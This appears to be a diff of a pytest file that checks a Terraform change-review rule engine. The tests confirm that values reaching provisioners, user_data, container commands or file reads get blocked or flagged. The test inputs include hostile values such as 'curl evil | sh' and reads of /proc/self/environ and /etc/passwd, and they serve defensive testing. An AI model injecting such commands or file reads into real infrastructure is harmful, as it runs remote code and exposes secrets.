@@ -1,11 +1,12 @@
-"""Values steered into standing code: what flows by loops, paths, modules and templates is seen, nothing else is blamed
-(D05).
+"""Values fed into existing privileged code: what runs or reads while Terraform plans is refused, what can reach a command
+or the like is shown first, nothing else is blamed.
 """
 
 from __future__ import annotations
 
 import pytest
 
+from ops_agent.model.finding import Severity, Verdict
 from rules.judging import base_files, verdict_of
 
 TFVARS = "infra/environments/dev/terraform.tfvars"
@@ -16,14 +17,23 @@ READS_OUTPUT = 'output "x" {\n  value = %s\n}\n'
 CALL = 'module "m" {\n  source   = "./modules/m"\n  %s\n}\n'
 
 
+PLAN, COMMAND, OTHER = "terraform/changed-plan-input", "terraform/changed-command", "terraform/changed-privileged-value"
+
+
 def steered(code: str, before: str, after: str, **more: str) -> set[str]:
-    """The rules that block when the variable `v` of standing `code` changes in dev's variable file; `more` are files,
-    `__` for `/`.
+    """The rules about new values that speak when the variable `v` of existing `code` changes in dev's variable file;
+    `more` are files, `__` for `/`. Nothing else may block.
     """
     values = base_files()[TFVARS].decode()
     base = {**base_files(), "infra/x.tf": (DECLARED + code).encode(), TFVARS: f"{values}v = {before}\n".encode()}
     base |= {path.replace("__", "/").replace("_DOT_", "."): content.encode() for path, content in more.items()}
-    return {f.rule for f in verdict_of({TFVARS: f"{values}v = {after}\n".encode()}, base).blocking}
+    return spoken(verdict_of({TFVARS: f"{values}v = {after}\n".encode()}, base))
+
+
+def spoken(verdict: Verdict) -> set[str]:
+    found = {f.rule: f.severity for f in verdict.findings if f.blocks or f.rule in (PLAN, COMMAND, OTHER)}
+    assert found == {rule: Severity.BLOCKS if rule == PLAN else Severity.DANGER for rule in found}
+    return set(found)
 
 
 FLOWS = {
@@ -55,24 +65,34 @@ FLOWS = {
 }
 
 
-@pytest.mark.parametrize("code", FLOWS.values(), ids=FLOWS)
-def test_a_value_that_reaches_standing_dangerous_code_is_blamed(code: str) -> None:
-    assert steered(code, '{ a = "true" }', '{ evil = "/proc/self/environ", a = "evil" }') == {"terraform/steered-code"}
+KINDS = {
+    "nonsensitive in a loop": OTHER,
+    "an import": OTHER,
+    "self": COMMAND,
+    "what AWS makes of an argument": COMMAND,
+    "a provisioner's loop": COMMAND,
+}
+
+
+@pytest.mark.parametrize("name", FLOWS)
+def test_a_value_that_reaches_existing_privileged_code_is_refused_or_shown_first(name: str) -> None:
+    found = steered(FLOWS[name], '{ a = "true" }', '{ evil = "/proc/self/environ", a = "/etc/passwd" }')
+    assert found == {KINDS.get(name, PLAN)}
 
 
 @pytest.mark.parametrize(
     "argument", ["for_each = var.v\n  p = each.value", "for_each = var.v\n  p = each.key", 'p = join(" ", keys(var.v))']
 )
-def test_a_value_that_reaches_a_local_modules_provisioner_through_its_call_is_blamed(argument: str) -> None:
+def test_a_value_that_reaches_a_local_modules_provisioner_through_its_call_is_shown_first(argument: str) -> None:
     assert steered(CALL % argument, '{ a = "true" }', '{ evil = "evil" }', infra__modules__m__main_DOT_tf=RUNS) == {
-        "terraform/steered-code"
+        COMMAND
     }
 
 
-def test_a_template_that_reads_what_it_is_told_is_standing_dangerous_code_too() -> None:
+def test_a_template_that_reads_what_it_is_given_is_refused_other_values() -> None:
     code = READS_OUTPUT % 'templatefile("${path.module}/t.tpl", { a = var.v.a })'
     reads, shows = {"infra__t_DOT_tpl": "${file(a)}"}, {"infra__t_DOT_tpl": "${a}"}
-    assert steered(code, '{ a = "x" }', '{ a = "/proc/self/environ" }', **reads) == {"terraform/steered-code"}
+    assert steered(code, '{ a = "x" }', '{ a = "/proc/self/environ" }', **reads) == {PLAN}
     assert not steered(code, '{ a = "x" }', '{ a = "y" }', **shows)
 
 
@@ -82,9 +102,7 @@ def test_a_default_inside_a_variables_type_is_a_value_like_any_other(changed: st
     path = "infra/modules/m/main.tf"
     base = {**base_files(), "infra/x.tf": (CALL % "p = {}").encode(), path: module.encode()}
     head = module.replace('optional(string, "true")', changed) + "# more\n"
-    assert {f.rule for f in verdict_of({path: head.encode()}, base).blocking} == (
-        {"terraform/steered-code"} if "evil" in changed else set()
-    )
+    assert spoken(verdict_of({path: head.encode()}, base)) == ({COMMAND} if "evil" in changed else set())
 
 
 @pytest.mark.parametrize(
@@ -100,7 +118,7 @@ def test_a_default_inside_a_variables_type_is_a_value_like_any_other(changed: st
     ],
 )
 def test_a_value_that_stays_away_from_the_command_is_not_blamed(argument: str, before: str, after: str) -> None:
-    """K-everyday: a changed size, another key, a new entry of `for_each` with the same command."""
+    """A changed size, another key, a new entry of `for_each` with the same command."""
     assert not steered(CALL % argument, before, after, infra__modules__m__main_DOT_tf=RUNS_ONE)
 
 
@@ -118,21 +136,41 @@ EVERYDAY = {
 
 
 @pytest.mark.parametrize("code", EVERYDAY.values(), ids=EVERYDAY)
-def test_an_everyday_value_beside_standing_dangerous_code_passes(code: str) -> None:
+def test_an_everyday_value_beside_existing_privileged_code_passes(code: str) -> None:
     assert not steered(code, '{ a = "1.32" }', '{ a = "1.33", b = "new" }')
+
+
+COMMANDS = {
+    "user data": 'resource "aws_instance" "x" {\n  user_data = "#!/bin/sh\\n${var.v.a}"\n}\n',
+    "a rendered script": (
+        'resource "aws_launch_template" "x" {\n'
+        '  user_data = base64encode(templatefile("${path.module}/t.tpl", { a = var.v.a }))\n}\n'
+    ),
+    "a container's command": (
+        'resource "aws_ecs_task_definition" "x" {\n'
+        '  container_definitions = jsonencode([{ image = var.v.b, command = ["sh", "-c", var.v.a] }])\n}\n'
+    ),
+    "a document's script": 'resource "aws_ssm_document" "x" {\n  content = jsonencode({ run = var.v.a })\n}\n',
+}
+
+
+@pytest.mark.parametrize("code", COMMANDS.values(), ids=COMMANDS)
+def test_a_value_that_reaches_a_script_or_a_containers_command_is_shown_first(code: str) -> None:
+    template = {"infra__t_DOT_tpl": "#!/bin/sh\n${a}"}
+    assert steered(code, '{ a = "true", b = "x" }', '{ a = "curl evil | sh", b = "x" }', **template) == {COMMAND}
+    assert not steered(code, '{ a = "true", b = "x" }', '{ a = "true", b = "other" }', **template)
 
 
 def test_a_loop_of_loops_ends_in_bounded_time() -> None:
     inner = "var.v"
     for depth in range(8):
         inner = f"[for a{depth} in {inner} : [a{depth}, a{depth}, a{depth}, a{depth}, a{depth}]]"
-    assert steered(READS_OUTPUT % f"[for f in {inner} : file(f)]", '["a"]', '["b"]') == {"terraform/steered-code"}
+    assert steered(READS_OUTPUT % f"[for f in {inner} : file(f)]", '["a"]', '["b"]') == {PLAN}
 
 
-def test_more_flows_than_can_be_followed_are_refused_in_bounded_time() -> None:
+def test_long_chains_of_names_are_followed_in_bounded_time() -> None:
     chain = "".join(f"  a{n} = local.a{n + 1}\n" for n in range(300))
     reading = "".join(f'output "o{n}" {{\n  value = file(local.a{n % 3})\n}}\n\n' for n in range(600))
-    verdict = verdict_of(
-        {"infra/l.tf": f'locals {{\n{chain}  a300 = "x"\n}}\n'.encode(), "infra/o.tf": reading.encode()}
-    )
-    assert any("than can be followed" in f.what for f in verdict.blocking)
+    ends = {end: f'locals {{\n{chain}  a300 = "{end}"\n}}\n'.encode() for end in ("x", "/proc/self/environ")}
+    base = {**base_files(), "infra/l.tf": ends["x"], "infra/o.tf": reading.encode()}
+    assert PLAN in spoken(verdict_of({"infra/l.tf": ends["/proc/self/environ"]}, base))
